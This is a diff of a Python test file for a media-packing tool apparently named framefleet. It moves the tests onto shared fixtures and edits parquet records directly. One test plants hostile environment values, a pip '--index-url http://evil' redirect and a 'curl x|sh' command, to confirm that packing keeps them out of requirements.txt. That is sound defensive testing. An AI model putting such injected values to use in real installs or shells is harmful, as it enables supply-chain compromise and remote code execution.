@@ -2,23 +2,19 @@
 
 from __future__ import annotations
 
+import json
 import shutil
 import subprocess
 import sys
 from pathlib import Path
 
 import numpy as np
+import pyarrow.parquet as pq
 import pytest
 from PIL import Image
 
 import framefleet
 from framefleet.pipeline.errors import InputError, JobError
-from framefleet.pipeline.guards.json_text import canonical_json, parse_json
-from framefleet.pipeline.outputs.layout import RECORDS
-from framefleet.pipeline.outputs.parts.parts import PartWriter
-from framefleet.pipeline.outputs.parts.record_tables import record_schema_of, record_tables
-from framefleet.pipeline.outputs.parts.seals import live_parts, new_run
-from framefleet.pipeline.outputs.stores.store import Store
 from tests.commands import command
 from tests.driven import render_driven
 from tests.jobs import job_values, prompt_rows, records_of, write_table
@@ -81,55 +77,61 @@ def test_what_rows_take_is_packed_too(tmp_path: Path, monkeypatch: pytest.Monkey
     assert verified.is_well and len(verified.rows) == 2
 
 
-def test_rows_are_chosen_as_export_chooses_them(tmp_path: Path) -> None:
-    values = job_values(write_table(tmp_path / "t.parquet", prompt_rows(4)), tmp_path / "out")
-    render_driven(values)
-    out = tmp_path / "out"
-    row_ids = [record["row_id"] for record in sorted(records_of(out), key=lambda record: record["seed"])]
+@pytest.fixture(scope="module")
+def rendered(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """An output of four rows."""
+    folder = tmp_path_factory.mktemp("rendered")
+    render_driven(job_values(write_table(folder / "t.parquet", prompt_rows(4)), folder / "out"))
+    return folder / "out"
+
+
+@pytest.fixture
+def out(rendered: Path, tmp_path: Path) -> Path:
+    """A copy that may be changed."""
+    return shutil.copytree(rendered, tmp_path / "out")
+
+
+def test_rows_are_chosen_as_export_chooses_them(rendered: Path, tmp_path: Path) -> None:
+    records = sorted(records_of(rendered), key=lambda record: record["seed"])
+    row_ids = [record["row_id"] for record in records]
     picks = tmp_path / "picks.jsonl"
     stars = zip([*row_ids, "0" * 32], (5, 0, 1, 1, 1), strict=True)
     picks.write_text("".join(f'{{"row_id": "{row_id}", "stars": {number}}}\n' for row_id, number in stars))
-    packed = command("pack", out, tmp_path / "picked", "--picks", picks)
+    packed = command("pack", rendered, tmp_path / "picked", "--picks", picks)
     assert packed.exit_code == 0 and "1 pick without a record" in packed.stderr, packed.output
     assert {one["row_id"] for one in records_of(tmp_path / "picked")} == {*row_ids} - {row_ids[1]}
-    both = framefleet.pack(out, tmp_path / "both", where="seed > 0", picks=row_ids[:3])
+    both = framefleet.pack(rendered, tmp_path / "both", where="seed > 0", picks=row_ids[:3])
     assert {*both.row_ids} == {*row_ids[1:3]}
-    assert framefleet.pack(out, tmp_path / "one", rows=1, where="seed = 3").row_ids == (row_ids[3],)
-    none = command("pack", out, tmp_path / "none", "--where", "seed > 9")
+    assert framefleet.pack(rendered, tmp_path / "one", rows=1, where="seed = 3").row_ids == (row_ids[3],)
+    none = command("pack", rendered, tmp_path / "none", "--where", "seed > 9")
     assert none.exit_code == 2 and "no row is chosen" in none.stderr, none.output
-    twice = command("pack", out, tmp_path / "none", "--row", row_ids[0], "--where", "seed > 0")
+    twice = command("pack", rendered, tmp_path / "none", "--row", row_ids[0], "--where", "seed > 0")
     assert twice.exit_code == 2 and "--row names the rows, and --where chooses some" in twice.stderr
     assert not (tmp_path / "none").exists()
 
 
-def test_what_cannot_be_packed_is_refused(tmp_path: Path) -> None:
-    values = job_values(write_table(tmp_path / "t.parquet", prompt_rows(2)), tmp_path / "out")
-    render_driven(values)
-    out, pack = tmp_path / "out", tmp_path / "pack"
+def test_what_cannot_be_packed_is_refused(out: Path, tmp_path: Path) -> None:
+    pack = tmp_path / "pack"
     with pytest.raises(JobError, match="has no record of row " + "0" * 32):
         framefleet.pack(out, pack, row_ids=["0" * 32])
     with pytest.raises(JobError, match="is not an empty folder"):
         framefleet.pack(out, out)
-    clip = next((tmp_path / "out" / "clips").glob("*/*"))
+    clip = next((out / "clips").glob("*/*"))
     clip.write_bytes(clip.read_bytes()[::-1])
     with pytest.raises(JobError, match="is not as its record says: it has other bytes"):
         framefleet.pack(out, pack)
     assert not pack.exists()
 
 
-def test_what_a_record_calls_a_version_is_no_option_of_pip_and_no_command(tmp_path: Path) -> None:
-    values = job_values(write_table(tmp_path / "t.parquet", prompt_rows(1)), tmp_path / "out")
-    render_driven(values)
+def test_what_a_record_calls_a_version_is_no_option_of_pip_and_no_command(out: Path, tmp_path: Path) -> None:
     hostile = {"framefleet": "0.1.0\n--index-url http://evil", "python": "3; curl x|sh #", "torch": 5}
-    store = Store(str(tmp_path / "out"))
-    (part,) = live_parts(store)
-    ((record,),) = (table.to_pylist() for table in record_tables(store, None, [part]))
-    environment = canonical_json(parse_json(record["environment"]) | hostile)
-    writer = PartWriter(store, RECORDS, record_schema_of(store), run=new_run(9))
-    writer.add(None, record | {"environment": environment})
-    writer.flush()
-    store.delete(part.path)
-    framefleet.pack(tmp_path / "out", tmp_path / "pack")
+    (part,) = (out / "records").iterdir()
+    table = pq.read_table(part)
+    place = table.column_names.index("environment")
+    cells = [json.dumps(json.loads(cell) | hostile) for cell in table["environment"].to_pylist()]
+    part.unlink()
+    pq.write_table(table.set_column(place, "environment", [cells]), part.with_name("part-x.parquet"))
+    framefleet.pack(out, tmp_path / "pack")
     pinned, page = ((tmp_path / "pack" / name).read_text() for name in ("requirements.txt", "README.md"))
     assert "diffusers==" in pinned
     assert not [word for word in ("evil", "framefleet", "torch=") if word in pinned]
